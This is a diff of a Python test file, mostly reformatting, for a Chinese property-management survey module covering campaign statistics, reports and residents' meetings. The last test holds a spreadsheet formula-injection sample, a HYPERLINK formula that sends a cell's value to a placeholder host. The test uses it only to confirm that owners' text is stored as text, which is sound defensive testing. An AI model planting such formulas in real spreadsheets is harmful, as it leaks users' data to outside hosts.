@@ -24,7 +24,7 @@ AREAS = ["power", "water", "fire_security", "sanitation", "greening", "public_fa
 
 
 def row(*values):
-    return {code: v for code, v in zip(AREAS, values) if v}
+    return {code: v for code, v in zip(AREAS, values, strict=False) if v}
 
 
 # The example, worked by hand (- = left blank):
@@ -37,25 +37,50 @@ def row(*values):
 # greening 3/3, public 2/3, repair 3/4, attitude 3/4;
 # overall 23/29 = 79.3 %; returned 4 of 10 handed out = 40.0 %;
 # common opinion: 电梯经常坏 (in 2 questionnaires; its shorter parts say nothing more).
-EXPECTED = {"power": (4, 4), "water": (3, 4), "fire_security": (3, 3), "sanitation": (2, 4), "greening": (3, 3),
-            "public_facilities": (2, 3), "repair": (3, 4), "attitude": (3, 4)}
+EXPECTED = {
+    "power": (4, 4),
+    "water": (3, 4),
+    "fire_security": (3, 3),
+    "sanitation": (2, 4),
+    "greening": (3, 3),
+    "public_facilities": (2, 3),
+    "repair": (3, 4),
+    "attitude": (3, 4),
+}
 
 
 @pytest.fixture
 def campaign(property_rules, leader):
     today = timezone.localdate()
-    return services.campaign_create(actor=leader, title="2026 年度业主意见调查", starts_on=today - timedelta(days=3),
-                                    ends_on=today + timedelta(days=10), audience="全体业主", audience_size=10)
+    return services.campaign_create(
+        actor=leader,
+        title="2026 年度业主意见调查",
+        starts_on=today - timedelta(days=3),
+        ends_on=today + timedelta(days=10),
+        audience="全体业主",
+        audience_size=10,
+    )
 
 
 @pytest.fixture
 def answered(campaign, leader):
-    services.response_enter(actor=leader, campaign_id=campaign.pk, paper_number="P001",
-                            answers=row(S, S, B, D, S, "", S, S), opinion="电梯经常坏，希望尽快修好")
-    services.response_enter(actor=leader, campaign_id=campaign.pk, paper_number="P002",
-                            answers=row(S, D, S, D, B, S, B, S), opinion="楼道灯不亮；电梯经常坏")
-    first, second = (u.rsplit("/", 2)[-2] for u in
-                     services.invitations_issue(actor=leader, campaign_id=campaign.pk, count=2))
+    services.response_enter(
+        actor=leader,
+        campaign_id=campaign.pk,
+        paper_number="P001",
+        answers=row(S, S, B, D, S, "", S, S),
+        opinion="电梯经常坏，希望尽快修好",
+    )
+    services.response_enter(
+        actor=leader,
+        campaign_id=campaign.pk,
+        paper_number="P002",
+        answers=row(S, D, S, D, B, S, B, S),
+        opinion="楼道灯不亮；电梯经常坏",
+    )
+    first, second = (
+        u.rsplit("/", 2)[-2] for u in services.invitations_issue(actor=leader, campaign_id=campaign.pk, count=2)
+    )
     services.response_submit(token=first, answers=row(B, S, S, B, S, D, D, D), opinion="维修师傅态度差")
     services.response_submit(token=second, answers=row(S, S, "", S, "", S, S, B))
     return campaign
@@ -63,7 +88,15 @@ def answered(campaign, leader):
 
 def test_the_property_campaign_asks_the_eight_areas(campaign):
     assert [a["label"] for a in campaign.areas] == [
-        "供电管理", "供水管理", "消防治安管理", "卫生管理", "绿化管理", "公共设施管理", "维修服务", "服务态度"]
+        "供电管理",
+        "供水管理",
+        "消防治安管理",
+        "卫生管理",
+        "绿化管理",
+        "公共设施管理",
+        "维修服务",
+        "服务态度",
+    ]
     assert campaign.report_to == "业主委员会"
 
 
@@ -80,11 +113,14 @@ def test_statistics_match_the_hand_computed_example(answered):
     assert stats.opinions == 3
 
 
-@pytest.mark.parametrize("answers, field", [
-    ({"power": "very_satisfied"}, "area_power"),  # off the scale
-    ({"lift": S}, "answers"),  # not an area of this questionnaire
-    ({}, "answers"),  # empty
-])
+@pytest.mark.parametrize(
+    "answers, field",
+    [
+        ({"power": "very_satisfied"}, "area_power"),  # off the scale
+        ({"lift": S}, "answers"),  # not an area of this questionnaire
+        ({}, "answers"),  # empty
+    ],
+)
 def test_an_answer_out_of_range_is_refused_and_nothing_counted(campaign, leader, answers, field):
     with pytest.raises(ValidationFailed) as info:
         services.response_enter(actor=leader, campaign_id=campaign.pk, paper_number="P009", answers=answers)
@@ -119,22 +155,45 @@ def test_links_stop_at_the_deadline_and_a_closed_campaign_takes_no_papers(campai
 def test_only_the_service_centre_runs_a_survey(property_rules, org, departments, leader):
     handler = make_staff(org, "h2", [Role.HANDLER], departments["city"])
     with pytest.raises(PermissionDeniedError):
-        services.campaign_create(actor=handler, title="x", starts_on=date(2026, 1, 1), ends_on=date(2026, 2, 1),
-                                 audience="全体业主", audience_size=5)
+        services.campaign_create(
+            actor=handler,
+            title="x",
+            starts_on=date(2026, 1, 1),
+            ends_on=date(2026, 2, 1),
+            audience="全体业主",
+            audience_size=5,
+        )
     with pytest.raises(ValidationFailed) as info:
-        services.campaign_create(actor=leader, title="年度调查", starts_on=date(2026, 3, 1), ends_on=date(2026, 2, 1),
-                                 audience="全体业主", audience_size=0)
+        services.campaign_create(
+            actor=leader,
+            title="年度调查",
+            starts_on=date(2026, 3, 1),
+            ends_on=date(2026, 2, 1),
+            audience="全体业主",
+            audience_size=0,
+        )
     assert set(info.value.errors) == {"ends_on", "audience_size"}
 
 
 def test_rectification_items_have_owners_and_due_dates(answered, leader, head, departments):
     with pytest.raises(ValidationFailed) as info:
-        services.item_add(actor=leader, campaign_id=answered.pk, problem="卫生清扫不及时", department_id=None,
-                          due_on=timezone.localdate() - timedelta(days=1))
+        services.item_add(
+            actor=leader,
+            campaign_id=answered.pk,
+            problem="卫生清扫不及时",
+            department_id=None,
+            due_on=timezone.localdate() - timedelta(days=1),
+        )
     assert set(info.value.errors) == {"department", "due_on"}
-    item = services.item_add(actor=leader, campaign_id=answered.pk, area="sanitation", problem="卫生清扫不及时",
-                             measure="增加一次午间清扫", department_id=departments["city"].pk,
-                             due_on=timezone.localdate() + timedelta(days=30))
+    item = services.item_add(
+        actor=leader,
+        campaign_id=answered.pk,
+        area="sanitation",
+        problem="卫生清扫不及时",
+        measure="增加一次午间清扫",
+        department_id=departments["city"].pk,
+        due_on=timezone.localdate() + timedelta(days=30),
+    )
     from huiyin.core.models import Notification
 
     assert Notification.objects.filter(recipient=head, key=f"survey-item:{item.pk}").exists()
@@ -149,8 +208,14 @@ def test_rectification_items_have_owners_and_due_dates(answered, leader, head, d
 def test_the_excel_report_carries_the_same_figures(answered, leader, departments):
     from openpyxl import load_workbook
 
-    services.item_add(actor=leader, campaign_id=answered.pk, area="water", problem="二次供水水箱清洗不及时",
-                      department_id=departments["city"].pk, due_on=timezone.localdate() + timedelta(days=14))
+    services.item_add(
+        actor=leader,
+        campaign_id=answered.pk,
+        area="water",
+        problem="二次供水水箱清洗不及时",
+        department_id=departments["city"].pk,
+        due_on=timezone.localdate() + timedelta(days=14),
+    )
     book = load_workbook(io.BytesIO(report.render_xlsx(answered, selectors.campaign_stats(answered))))
     assert book.sheetnames == ["汇总", "分项满意率", "共性意见", "整改事项", "答卷"]
     summary = {r[0]: r[1] for r in book["汇总"].iter_rows(min_row=2, values_only=True)}
@@ -170,8 +235,17 @@ def test_the_pdf_report_shows_the_figures_in_chinese(answered):
     _need_tool("pdftotext")
     pdf = report.render_pdf(answered, selectors.campaign_stats(answered), "幸福里物业服务中心")
     text = _squash(_run("pdftotext", "-", "-", content=pdf))
-    for expected in ("2026年度业主意见调查结果报告", "报送：业主委员会", "总满意率", "79.3%（23/29）",
-                     "40.0%（4/10）", "卫生管理", "50.0%", "电梯经常坏", "暂无整改事项"):
+    for expected in (
+        "2026年度业主意见调查结果报告",
+        "报送：业主委员会",
+        "总满意率",
+        "79.3%（23/29）",
+        "40.0%（4/10）",
+        "卫生管理",
+        "50.0%",
+        "电梯经常坏",
+        "暂无整改事项",
+    ):
         assert expected in text, expected
 
 
@@ -206,20 +280,34 @@ def test_activities_follow_the_presets_plan_and_opinions_become_cases(property_r
     with pytest.raises(ValidationFailed) as info:
         services.activity_plan(actor=leader, kind="picnic", planned_on=None)
     assert set(info.value.errors) == {"kind", "planned_on"}
-    meeting = services.activity_plan(actor=leader, kind="residents_meeting", planned_on=today, place="会所二楼",
-                                     led_by_id=leader.pk)
+    meeting = services.activity_plan(
+        actor=leader, kind="residents_meeting", planned_on=today, place="会所二楼", led_by_id=leader.pk
+    )
     with pytest.raises(ApplicationError, match="先登记活动记录"):
         services.activity_opinion_to_case(actor=leader, activity_id=meeting.pk, text="地下车库照明不足")
     with pytest.raises(ValidationFailed) as info:
-        services.activity_record(actor=leader, activity_id=meeting.pk, held_on=today + timedelta(days=1),
-                                 attendance=0, minutes=" ")
+        services.activity_record(
+            actor=leader, activity_id=meeting.pk, held_on=today + timedelta(days=1), attendance=0, minutes=" "
+        )
     assert set(info.value.errors) == {"held_on", "attendance", "minutes"}
     assert Activity.objects.get(pk=meeting.pk).held_on is None  # refused: nothing recorded
-    services.activity_record(actor=leader, activity_id=meeting.pk, held_on=today, attendance=23,
-                             attendees="各栋楼长及业主代表", minutes="听取意见 6 条，当场答复 4 条。",
-                             expected_version=meeting.version)
-    case = services.activity_opinion_to_case(actor=leader, activity_id=meeting.pk, text="地下车库照明不足，晚上看不清",
-                                             nature="suggestion", name="王芳", phone="13900001111")
+    services.activity_record(
+        actor=leader,
+        activity_id=meeting.pk,
+        held_on=today,
+        attendance=23,
+        attendees="各栋楼长及业主代表",
+        minutes="听取意见 6 条，当场答复 4 条。",
+        expected_version=meeting.version,
+    )
+    case = services.activity_opinion_to_case(
+        actor=leader,
+        activity_id=meeting.pk,
+        text="地下车库照明不足，晚上看不清",
+        nature="suggestion",
+        name="王芳",
+        phone="13900001111",
+    )
     assert case.channel == "visit" and "住户座谈会" in case.text and case.state == "registered"
     assert ActivityOpinion.objects.get(case=case).activity_id == meeting.pk
     progress = {p["kind"].code: p for p in selectors.activity_plan_progress(org.pk, property_rules.preset().engagement)}
@@ -235,8 +323,14 @@ def test_periods_are_calendar_months_quarters_and_years():
 
 
 def test_common_opinions_group_the_same_opinion_and_skip_bare_words():
-    opinions = ["楼道灯不亮，报修好几次了", "楼道灯不亮，报修好几次了", "楼道灯不亮，晚上出入不方便",
-                "希望增加夜间巡逻", "希望尽快修好", "希望加快办理"]
+    opinions = [
+        "楼道灯不亮，报修好几次了",
+        "楼道灯不亮，报修好几次了",
+        "楼道灯不亮，晚上出入不方便",
+        "希望增加夜间巡逻",
+        "希望尽快修好",
+        "希望加快办理",
+    ]
     common = selectors.common_opinions(opinions)
     assert [(c.phrase, c.count) for c in common] == [
         ("楼道灯不亮", 3),  # a clause shared by different opinions
@@ -272,15 +366,29 @@ def test_links_and_papers_never_exceed_the_number_handed_out(answered, leader):
 def test_overlong_text_is_refused_naming_the_field_not_cut(property_rules, leader, departments):
     today = timezone.localdate()
     with pytest.raises(ValidationFailed) as info:
-        services.campaign_create(actor=leader, title="调" * 121, starts_on=today, ends_on=today, audience="业" * 201,
-                                 audience_size=5, extra_areas="电梯运行" * 11)
+        services.campaign_create(
+            actor=leader,
+            title="调" * 121,
+            starts_on=today,
+            ends_on=today,
+            audience="业" * 201,
+            audience_size=5,
+            extra_areas="电梯运行" * 11,
+        )
     assert set(info.value.errors) == {"title", "audience", "extra_areas"}
     assert "最多 120 字，当前 121 字" in info.value.errors["title"][0]
-    campaign = services.campaign_create(actor=leader, title="调查", starts_on=today, ends_on=today, audience="全体业主",
-                                        audience_size=5)
+    campaign = services.campaign_create(
+        actor=leader, title="调查", starts_on=today, ends_on=today, audience="全体业主", audience_size=5
+    )
     with pytest.raises(ValidationFailed) as info:
-        services.item_add(actor=leader, campaign_id=campaign.pk, problem="问" * 2001, measure="措" * 2001,
-                          department_id=departments["city"].pk, due_on=today)
+        services.item_add(
+            actor=leader,
+            campaign_id=campaign.pk,
+            problem="问" * 2001,
+            measure="措" * 2001,
+            department_id=departments["city"].pk,
+            due_on=today,
+        )
     assert set(info.value.errors) == {"problem", "measure"}
     with pytest.raises(ValidationFailed) as info:
         services.activity_plan(actor=leader, kind="residents_meeting", planned_on=today, place="会" * 121)
@@ -289,8 +397,13 @@ def test_overlong_text_is_refused_naming_the_field_not_cut(property_rules, leade
 
 
 def test_read_only_staff_cannot_mark_an_item_put_right(answered, leader, analyst, departments):
-    item = services.item_add(actor=leader, campaign_id=answered.pk, problem="卫生清扫不及时",
-                             department_id=departments["city"].pk, due_on=timezone.localdate())
+    item = services.item_add(
+        actor=leader,
+        campaign_id=answered.pk,
+        problem="卫生清扫不及时",
+        department_id=departments["city"].pk,
+        due_on=timezone.localdate(),
+    )
     with pytest.raises(PermissionDeniedError):
         services.item_done(actor=analyst, item_id=item.pk, note="已整改")
     item.refresh_from_db()
@@ -299,13 +412,14 @@ def test_read_only_staff_cannot_mark_an_item_put_right(answered, leader, analyst
 
 def test_an_opinion_form_sent_twice_registers_one_case(property_rules, leader, client):
     meeting = services.activity_plan(actor=leader, kind="residents_meeting", planned_on=timezone.localdate())
-    services.activity_record(actor=leader, activity_id=meeting.pk, held_on=timezone.localdate(), attendance=5,
-                             minutes="听取意见 1 条。")
+    services.activity_record(
+        actor=leader, activity_id=meeting.pk, held_on=timezone.localdate(), attendance=5, minutes="听取意见 1 条。"
+    )
     client.force_login(leader)
     page = client.get("/surveys/").content.decode()
     token = f'-{meeting.pk}"'
     assert token in page  # the form carries its one-use token
-    form = {"text": "地下车库照明不足", "nature": "suggestion", "intake_token": "a1b2c3-%d" % meeting.pk}
+    form = {"text": "地下车库照明不足", "nature": "suggestion", "intake_token": f"a1b2c3-{meeting.pk}"}
     first = client.post(f"/surveys/activities/{meeting.pk}/opinion/", form)
     second = client.post(f"/surveys/activities/{meeting.pk}/opinion/", form)
     assert first.status_code == second.status_code == 302 and first.url == second.url
@@ -315,10 +429,15 @@ def test_an_opinion_form_sent_twice_registers_one_case(property_rules, leader, c
 def test_owners_text_lands_in_excel_as_text_never_as_a_formula(campaign, leader):
     from openpyxl import load_workbook
 
-    services.response_enter(actor=leader, campaign_id=campaign.pk, paper_number="=1+1", answers=row(S),
-                            opinion='=HYPERLINK("http://x.example/?"&B2,"查看")')
+    services.response_enter(
+        actor=leader,
+        campaign_id=campaign.pk,
+        paper_number="=1+1",
+        answers=row(S),
+        opinion='=HYPERLINK("http://x.example/?"&B2,"查看")',
+    )
     book = load_workbook(io.BytesIO(report.render_xlsx(campaign, selectors.campaign_stats(campaign))))
-    cells = [c for c in book["答卷"][2]]
+    cells = list(book["答卷"][2])
     assert cells[2].value == "=1+1" and cells[2].data_type == "s"
     assert cells[-1].value.startswith("=HYPERLINK") and cells[-1].data_type == "s"
 
